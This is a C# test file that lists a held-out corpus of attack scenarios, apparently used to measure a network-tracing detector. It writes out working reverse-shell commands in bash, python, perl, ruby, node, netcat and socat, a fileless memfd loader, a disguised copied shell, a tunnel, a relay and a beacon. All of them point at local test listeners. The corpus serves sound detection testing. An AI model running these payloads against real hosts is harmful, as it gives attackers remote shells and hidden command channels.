using System.Globalization;
using N3ttrace.EndToEnd.Tests.Scenarios;
using static N3ttrace.EndToEnd.Tests.Scenarios.ScenarioListener;

namespace N3ttrace.EndToEnd.Tests.Corpora;

/// <summary>
/// The HELD-OUT third of the attack corpus. Fixed before any rule was tuned and kept out of the tuning: it is run only
/// to report its own figure. It spans the tools and wirings of the corpus (socket, pipe, FIFO, pty, relay, beacon,
/// memfd, copied and deleted executables), not just the hardest cases.
/// </summary>
internal static partial class AttackCorpus
{
    static partial void AddHeldOut(List<AttackScenario> list) => list.AddRange(
    [
        new("a02", "sh -i with stdio on a /dev/tcp descriptor (exec)", "dash", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Bash(e => $"exec 5<>/dev/tcp/127.0.0.1/{e.P}; exec /bin/sh -i <&5 >&5 2>&5")),

        new("a06", "python subprocess sh with pipes, python relays socket <-> pipes", "python", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            Run(e => [Py, "-c",
                $"import socket,subprocess,threading\ns=socket.create_connection(('127.0.0.1',{e.P}))\n" +
                "p=subprocess.Popen(['/bin/sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)\n" +
                "def up():\n while True:\n  d=p.stdout.read1(4096)\n  if not d: break\n  s.sendall(d)\n" +
                "threading.Thread(target=up,daemon=True).start()\n" +
                "while True:\n d=s.recv(4096)\n if not d: break\n p.stdin.write(d); p.stdin.flush()\n"])),

        new("a08", "perl IO::Socket, STDOUT on the socket, commands fed to sh through a pipe", "perl", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/perl", "-MIO::Socket::INET", "-e",
                $"$c=IO::Socket::INET->new('127.0.0.1:{e.P}') or die; open(STDOUT,'>&',$c); open(STDERR,'>&',$c); " +
                "open(SH,'|/bin/sh') or die; SH->autoflush(1); while(<$c>){ print SH $_ } close(SH);"])),

        new("a09", "ruby TCPSocket, exec sh -i with the socket on 0-2", "ruby", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/ruby", "-rsocket", "-e",
                $"s=TCPSocket.open('127.0.0.1',{e.P}); exec('/bin/sh','-i',in: s, out: s, err: s)"])),

        new("a14", "node spawn sh with the socket itself as stdio", "node", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/node", "-e",
                $"const n=require('net'),cp=require('child_process');const c=n.connect({e.P},'127.0.0.1',()=>{{" +
                "const sh=cp.spawn('/bin/sh',['-i'],{stdio:[c,c,c]});sh.on('exit',()=>process.exit(0));});c.on('error',()=>process.exit(0));"])),

        new("a18", "busybox nc with stdin from a FIFO, busybox sh on its output, into the FIFO", "busybox", Wiring.Fifo, AttackKind.Shell, Mode.Shell,
            Sh(e => $"rm -f q; mkfifo q; /usr/bin/busybox nc 127.0.0.1 {e.P} < q | /usr/bin/busybox sh -i > q 2>&1")),

        new("a22", "socat TCP to EXEC bash with pty, setsid", "socat", Wiring.Pty, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/socat", $"TCP:127.0.0.1:{e.P}", "EXEC:bash -i,pty,stderr,setsid,sigint,sane"])),

        new("a24", "mkfifo: cat FIFO | sh -i | nc.openbsd > FIFO", "nc.openbsd", Wiring.Fifo, AttackKind.Shell, Mode.Shell,
            Sh(e => $"rm -f q; mkfifo q; cat q | /bin/sh -i 2>&1 | /usr/bin/nc.openbsd 127.0.0.1 {e.P} > q")),

        new("a29", "compiled C: connect, forkpty sh, relay socket <-> pty master", "C (gcc)", Wiring.Pty, AttackKind.Shell, Mode.Shell,
            async e =>
            {
                var bin = await CompileAsync(e, ForkPtyC, "session", "-lutil");
                await Contexts.RunAsync([bin, e.P], Timeout, e.Dir);
            }),

        new("a31", "compiled C payload copied into a memfd and executed from memory", "memfd (C)", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            async e =>
            {
                var bin = await CompileAsync(e, ConnectExecC, "loader");
                // The python loader removes the file before exec: only the memfd copy is left.
                await Contexts.RunAsync([Py, "-c", MemfdExec(bin, $"['worker','{e.P}']", $"os.unlink('{bin}')")], Timeout, e.Dir);
            }),

        new("a32", "bash copied to a neutral path as update-helper, stdio on /dev/tcp", "bash (copied)", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            async e =>
            {
                var dir = Directory.CreateDirectory(e.File("tools")).FullName;
                var copy = Path.Combine(dir, "update-helper");
                File.Copy("/bin/bash", copy);
                File.SetUnixFileMode(copy, (UnixFileMode)0x1ED);
                await Contexts.RunAsync([copy, "-c", $"exec 3<>/dev/tcp/127.0.0.1/{e.P}; exec -a update-helper {copy} -i <&3 >&3 2>&3"], Timeout, e.Dir);
            }),

        new("t03", "ssh -D dynamic (SOCKS) forward through a real loopback sshd", "ssh", Wiring.Relay, AttackKind.Tunnel, Mode.Http,
            e => SshTunnel(e, socks => ["-N", "-D", $"127.0.0.1:{socks}"], async (socks, _) =>
            {
                for (var i = 0; i < 30 && e.Listener.Accepted == 0; i++)
                {
                    await Contexts.RunAsync(["/usr/bin/curl", "-s", "-o", "/dev/null", "--socks5", $"127.0.0.1:{socks}", $"http://127.0.0.1:{e.P}/d"], TimeSpan.FromSeconds(10), e.Dir);
                    await Task.Delay(300);
                }
                await Task.Delay(3000);
            })),

        new("t05", "python relay: accepts inbound, connects out, copies both ways", "python", Wiring.Relay, AttackKind.Tunnel, Mode.Hold,
            async e =>
            {
                var inbound = ScenarioEnv.FreePort();
                var relay = Contexts.RunAsync([Py, "-c",
                    "import socket,select,sys\nl=socket.socket(); l.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n" +
                    "l.bind(('127.0.0.1',int(sys.argv[1]))); l.listen(1)\na,_=l.accept()\nb=socket.create_connection(('127.0.0.1',int(sys.argv[2])))\n" +
                    "while True:\n r,_,_=select.select([a,b],[],[],10)\n if not r: break\n for x in r:\n  d=x.recv(4096)\n  if not d: sys.exit(0)\n  (b if x is a else a).sendall(d)\n",
                    inbound.ToString(CultureInfo.InvariantCulture), e.P], Timeout, e.Dir);
                await ScenarioEnv.DriveAsync(inbound, TimeSpan.FromSeconds(4), TimeSpan.FromSeconds(10));
                await relay;
            }),

        new("b02", $"python urllib every {BeaconSeconds} s +-20%, {BeaconCalls} calls", "python", Wiring.None, AttackKind.Beacon, Mode.Http,
            Run(e => [Py, "-c",
                $"import urllib.request,time,random\nfor i in range({BeaconCalls}):\n" +
                $" try: urllib.request.urlopen('http://127.0.0.1:{e.P}/v',timeout=3).read()\n except Exception: pass\n" +
                $" time.sleep({BeaconSeconds.ToString(CultureInfo.InvariantCulture)}*random.uniform(0.8,1.2))\n"])),

        new("o03", "interpreter copied under a neutral name, file deleted while it runs, then it connects", "python (deleted copy)", Wiring.None, AttackKind.Other, Mode.Hold,
            async e =>
            {
                var copy = e.File("worker");
                File.Copy(Py, copy);
                File.SetUnixFileMode(copy, (UnixFileMode)0x1ED);
                var run = Contexts.RunAsync([copy, "-c", $"import socket,time\ntime.sleep(1.5)\ns=socket.create_connection(('127.0.0.1',{e.P}))\ntime.sleep(4)\n"], Timeout, e.Dir);
                await Task.Delay(500);
                File.Delete(copy);
                await run;
            }),
    ]);
}
